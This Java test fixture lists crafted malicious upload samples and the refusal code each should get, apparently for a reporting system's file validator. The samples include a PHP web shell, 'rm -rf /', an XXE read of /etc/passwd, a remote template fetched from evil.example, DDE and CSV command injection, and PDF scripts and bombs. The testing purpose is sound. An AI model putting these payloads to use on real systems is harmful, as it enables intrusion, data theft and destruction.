package vn.hue.ansinh.reporting.inspection;

import static vn.hue.ansinh.reporting.inspection.SomeFiles.aPackedPdf;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.aPdf;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.aPicture;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.bytes;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.deflated;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.encrypted;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.joined;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.replacing;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.saved;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.with;
import static vn.hue.ansinh.reporting.inspection.SomeFiles.zip;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.Map;
import java.util.stream.Stream;

/** A file that must not be taken in, under the name that it comes with, and how it is refused. */
record BadFile(String what, FileKind as, String code, byte[] file) {
    private static final String OTHER = "attachment-not-as-named";
    private static final String UNSAFE = "attachment-unsafe";
    private static final String BROKEN = "attachment-broken";
    private static final String PAGE = "<html><script>alert(1)</script></html>";
    private static final String SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
    private static final byte[] OLE = Arrays.copyOf(HexFormat.of().parseHex("d0cf11e0a1b11ae1"), 4_096);
    private static final byte[] PROGRAM = Arrays.copyOf(HexFormat.of().parseHex("4d5a90000300000004000000ffff"), 512);
    private static final String RELATION = "<Relationship Id=\"x9\" TargetMode=\"External\" Type=\"http://schemas."
            + "openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
            + " Target=\"http://evil.example/a.dotm\"/></Relationships>";

    static Stream<BadFile> all() {
        return Stream.of(renamed(), pdfs(), packedPdfs(), pictures(), documents(), texts())
                .flatMap(kind -> kind);
    }

    private static Stream<BadFile> renamed() {
        return Stream.of(
                new BadFile("a page called PDF", FileKind.PDF, OTHER, bytes(PAGE)),
                new BadFile("SVG called PNG", FileKind.PNG, OTHER, bytes(SVG)),
                new BadFile("SVG called text", FileKind.TEXT, OTHER, bytes("<?xml version=\"1.0\"?>" + SVG)),
                new BadFile("a page called CSV", FileKind.CSV, OTHER, bytes("<!DOCTYPE html>" + PAGE)),
                new BadFile("a PDF called text", FileKind.TEXT, OTHER, aPdf()),
                new BadFile("a program called PDF", FileKind.PDF, OTHER, PROGRAM),
                new BadFile("a shell script called text", FileKind.TEXT, OTHER, bytes("#!/bin/sh\nrm -rf /\n")),
                new BadFile("PNG called JPEG", FileKind.JPEG, OTHER, aPicture("png")),
                new BadFile("a text called DOCX", FileKind.DOCX, OTHER, bytes("Báo cáo")),
                new BadFile("a zip called PDF", FileKind.PDF, OTHER, zip(Map.of("a.txt", bytes("a")))));
    }

    private static Stream<BadFile> pdfs() {
        return Stream.of(
                new BadFile(
                        "PDF with a script", FileKind.PDF, UNSAFE, aPdf("/OpenAction << /S /JavaScript /JS (x) >>")),
                new BadFile("PDF with a script, spelt", FileKind.PDF, UNSAFE, aPdf("/AA << /S /J#61vaScr#69pt >>")),
                new BadFile("PDF that starts a program", FileKind.PDF, UNSAFE, aPdf("/OpenAction << /S /Launch >>")),
                new BadFile("PDF with a file in it", FileKind.PDF, UNSAFE, aPdf("/Names << /EmbeddedFiles 9 0 R >>")),
                new BadFile("PDF with a password", FileKind.PDF, UNSAFE, aPdf("/Encrypt 8 0 R")),
                new BadFile("PDF and page", FileKind.PDF, UNSAFE, aPdf("(" + PAGE + ")")),
                new BadFile(
                        "PDF and zip", FileKind.PDF, UNSAFE, joined(joined(aPdf(), saved("docx")), bytes("\n%%EOF"))),
                new BadFile("PDF and zip behind it", FileKind.PDF, BROKEN, joined(aPdf(), saved("docx"))),
                new BadFile("PDF cut off", FileKind.PDF, BROKEN, Arrays.copyOf(aPdf(), 60)));
    }

    private static Stream<BadFile> packedPdfs() {
        byte[] script = bytes("3 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>");
        byte[] packed = deflated(script);
        byte[] hex = bytes(HexFormat.of().formatHex(packed) + ">");
        String sizes = " /N 1 /First 4 /Length " + packed.length;
        return Stream.of(
                packedPdf("a script in packed objects", "<</Type/ObjStm/Filter/FlateDecode" + sizes + ">>", packed),
                packedPdf("one of no type", "<< /Filter [/FlateDecode]" + sizes + " >>", packed),
                packedPdf("one whose type is spelt", "<</Type/Obj#53tm/Filter/FlateDecode/N 1/First 4>>", packed),
                packedPdf("one open", "<</Type/ObjStm" + sizes + ">>", script),
                packedPdf("one packed twice", "<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]" + sizes + ">>", hex),
                packedPdf("one packed otherwise", "<</Type/ObjStm/Filter/LZWDecode" + sizes + ">>", packed),
                packedPdf("one with a filter elsewhere", "<</Type/ObjStm/Filter 9 0 R" + sizes + ">>", packed),
                packedPdf(
                        "one behind a string",
                        "<</X(a\\)endobj)/Type/ObjStm/Filter/FlateDecode" + sizes + ">>",
                        packed),
                packedPdf("one before a string", "<</Type/ObjStm/Filter/FlateDecode" + sizes + "/X(endobj)>>", packed),
                packedPdf("one behind a comment", "<</Type/ObjStm/Filter/FlateDecode" + sizes + "%endobj\n>>", packed),
                packedPdf("one cut off", "<</Type/ObjStm/Filter/FlateDecode/N 1/First 4>>", Arrays.copyOf(packed, 20)),
                packedPdf("a bomb", "<</Type/ObjStm/Filter/FlateDecode/N 1/First 4>>", deflated(new byte[9 << 20])),
                packedPdf("many signs", "<< /X (" + "/First".repeat(60_000) + ") >>", packed));
    }

    private static BadFile packedPdf(String what, String head, byte[] packed) {
        return new BadFile("PDF with " + what, FileKind.PDF, UNSAFE, aPackedPdf(head, packed));
    }

    private static Stream<BadFile> pictures() {
        byte[] png = aPicture("png");
        byte[] jpeg = aPicture("jpeg");
        return Stream.of(
                new BadFile("PNG and zip", FileKind.PNG, UNSAFE, joined(png, saved("docx"))),
                new BadFile("PNG and page", FileKind.PNG, UNSAFE, joined(png, bytes(PAGE))),
                new BadFile("PNG cut off", FileKind.PNG, BROKEN, Arrays.copyOf(png, png.length - 5)),
                new BadFile("JPEG and zip", FileKind.JPEG, UNSAFE, joined(jpeg, saved("docx"))),
                new BadFile("JPEG and PHP", FileKind.JPEG, UNSAFE, joined(jpeg, bytes("<?php system($_GET[0]);"))),
                new BadFile("JPEG and PDF", FileKind.JPEG, UNSAFE, joined(jpeg, aPdf())),
                new BadFile("JPEG cut off", FileKind.JPEG, BROKEN, Arrays.copyOf(jpeg, 40)));
    }

    private static Stream<BadFile> documents() {
        byte[] docx = saved("docx");
        byte[] odt = saved("odt");
        String body = "word/document.xml";
        String run =
                "<w:p><w:r><w:instrText>DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\a.exe</w:instrText></w:r></w:p>";
        return Stream.of(
                new BadFile("DOCX with macros", FileKind.DOCX, UNSAFE, with(docx, "word/vbaProject.bin", OLE)),
                new BadFile(
                        "DOCM called DOCX",
                        FileKind.DOCX,
                        UNSAFE,
                        replacing(
                                docx,
                                "[Content_Types].xml",
                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                "application/vnd.ms-word.document.macroEnabled.main+xml")),
                new BadFile(
                        "DOCX with a template elsewhere",
                        FileKind.DOCX,
                        UNSAFE,
                        replacing(docx, "word/_rels/document.xml.rels", "</Relationships>", RELATION)),
                new BadFile(
                        "DOCX with DDE in pieces",
                        FileKind.DOCX,
                        UNSAFE,
                        replacing(docx, body, "<w:body>", "<w:body>" + run)),
                new BadFile("DOCX with an archive", FileKind.DOCX, UNSAFE, with(docx, "word/embeddings/a.zip", docx)),
                new BadFile(
                        "DOCX with an entity",
                        FileKind.DOCX,
                        UNSAFE,
                        replacing(
                                docx,
                                body,
                                "<w:document",
                                "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><w:document")),
                new BadFile(
                        "DOCX leaving the archive", FileKind.DOCX, UNSAFE, with(docx, "../../a.xml", bytes("<a/>"))),
                new BadFile("DOCX encrypted as a zip", FileKind.DOCX, UNSAFE, encrypted(docx)),
                new BadFile("DOCX with a password", FileKind.DOCX, UNSAFE, OLE),
                new BadFile("DOCX cut off", FileKind.DOCX, BROKEN, Arrays.copyOf(docx, docx.length / 2)),
                new BadFile("XLSX called DOCX", FileKind.DOCX, UNSAFE, saved("xlsx")),
                new BadFile("a zip of files called DOCX", FileKind.DOCX, UNSAFE, zip(Map.of("a.txt", bytes("a")))),
                new BadFile(
                        "ODT with macros",
                        FileKind.ODT,
                        UNSAFE,
                        with(odt, "Basic/Standard/Module1.xml", bytes("<m/>"))),
                new BadFile(
                        "ODT with a bound macro",
                        FileKind.ODT,
                        UNSAFE,
                        replacing(
                                odt,
                                "content.xml",
                                "<office:scripts/>",
                                "<office:scripts><office:event-listeners/></office:scripts>")),
                new BadFile(
                        "ODT with a password",
                        FileKind.ODT,
                        UNSAFE,
                        replacing(
                                odt,
                                "META-INF/manifest.xml",
                                "</manifest:manifest>",
                                "<manifest:encryption-data/></manifest:manifest>")),
                new BadFile("ODS called ODT", FileKind.ODT, OTHER, saved("ods")));
    }

    private static Stream<BadFile> texts() {
        return Stream.of(
                new BadFile("nothing", FileKind.TEXT, BROKEN, new byte[0]),
                new BadFile(
                        "text of another encoding",
                        FileKind.TEXT,
                        OTHER,
                        "Báo cáo".getBytes(StandardCharsets.ISO_8859_1)),
                new BadFile("CSV that runs a program", FileKind.CSV, UNSAFE, bytes("a,b\n1,=cmd|'/c calc'!A0\n")),
                new BadFile("CSV that runs one behind a quote", FileKind.CSV, UNSAFE, bytes("a;\"=HYPERLINK(1)\"\n")),
                new BadFile("CSV that runs one behind a plus", FileKind.CSV, UNSAFE, bytes("+cmd|'/c calc'!A0,1\n")),
                new BadFile("text with a page in it", FileKind.TEXT, OTHER, bytes("Báo cáo\n" + PAGE)));
    }

    @Override
    public String toString() {
        return what;
    }
}
